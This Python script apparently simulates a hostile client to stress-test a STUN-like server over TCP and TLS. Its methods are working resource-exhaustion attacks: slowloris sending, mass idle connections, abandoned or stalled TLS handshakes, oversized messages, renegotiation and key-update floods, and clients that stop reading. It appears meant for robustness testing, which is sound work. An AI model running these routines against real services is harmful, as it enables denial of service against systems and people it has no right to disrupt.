"""What a hostile client does by TCP and TLS: stream_attacker.py ATTACK SERVER TCP-PORT TLS-PORT SECONDS.

Bounded in connections and in time. Prints how many connections it made."""

import contextlib
import os
import resource
import selectors
import socket
import ssl
import subprocess
import sys
import time

BINDING = bytes.fromhex("000100002112a442") + bytes(12)


class Attacker:
    def __init__(self, server, tcp, tls, seconds):
        self.server, self.tcp, self.tls = server, int(tcp), int(tls)
        self.end = time.monotonic() + float(seconds)
        self.made = 0
        limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))

    def goes_on(self):
        return time.monotonic() < self.end

    def connect(self, port):
        sock = socket.create_connection((self.server, port), timeout=5)
        self.made += 1
        return sock

    def hello(self):
        """The first flight of a TLS client."""
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
        with contextlib.suppress(ssl.SSLWantReadError):
            context.wrap_bio(coming, going).do_handshake()
        return going.read()

    def slowloris(self):
        """Two hundred of each kind, a byte at a time."""
        hello = self.hello()
        socks = [(self.connect(self.tcp), BINDING) for _ in range(200)]
        socks += [(self.connect(self.tls), hello) for _ in range(200)]
        at = 0
        while self.goes_on():
            for sock, text in socks:
                with contextlib.suppress(OSError):
                    sock.send(text[at % len(text) :][:1])
            at += 1
            time.sleep(1)

    def silent(self):
        """Ten thousand that say nothing."""
        socks = []
        while self.goes_on() and len(socks) < 10_000:
            with contextlib.suppress(OSError):  # the kernel's queue is full for a moment
                socks.append(self.connect(self.tcp if len(socks) % 2 else self.tls))
        while self.goes_on():
            time.sleep(0.1)

    def hellos(self):
        """Begins handshakes, one after the other, and goes away in the middle."""
        hello = self.hello()
        while self.goes_on():
            with contextlib.suppress(OSError), self.connect(self.tls) as sock:
                sock.sendall(hello)
                sock.recv(1)

    def huge(self):
        """Messages as long as a length can say."""
        socks = [self.connect(self.tcp) for _ in range(20)]
        for sock in socks:
            sock.sendall(BINDING)
        while self.goes_on():
            for sock in socks:
                with contextlib.suppress(OSError):
                    sock.sendall(b"\x40\x00\xff\xff" + bytes(65536))
                    sock.sendall(b"\x00\x01\xff\xfc\x21\x12\xa4\x42" + bytes(12) + bytes(65532))

    def commands(self, letter, *options):
        command = ["openssl", "s_client", "-connect", f"{self.server}:{self.tls}", *options]
        while self.goes_on():
            with subprocess.Popen(
                command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            ) as client:
                self.made += 1
                time.sleep(0.2)  # it must have a connection before it is given commands
                with contextlib.suppress(OSError):
                    for _ in range(200):
                        os.write(client.stdin.fileno(), letter + b"\n")
                        time.sleep(0.0005)
                client.kill()

    def key_updates(self):
        self.commands(b"K", "-tls1_3")

    def renegotiations(self):
        self.commands(b"R", "-tls1_2")

    def stalled(self):
        """One handshake that stays in its middle."""
        with self.connect(self.tls) as sock:
            sock.sendall(self.hello()[:100])
            while self.goes_on():
                time.sleep(0.1)

    def readers_that_stop(self):
        """Ask on and on, and read no answer."""
        socks = [self.connect(self.tcp) for _ in range(50)]
        chosen = selectors.DefaultSelector()
        for sock in socks:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.setblocking(False)
            chosen.register(sock, selectors.EVENT_WRITE)
        while self.goes_on():
            for key, _ in chosen.select(0.1):
                try:
                    key.fileobj.send(BINDING * 100)
                except BlockingIOError:
                    continue
                except OSError:
                    chosen.unregister(key.fileobj)


if __name__ == "__main__":
    attacker = Attacker(*sys.argv[2:])
    getattr(attacker, sys.argv[1])()
    print(attacker.made, flush=True)
    os._exit(0)
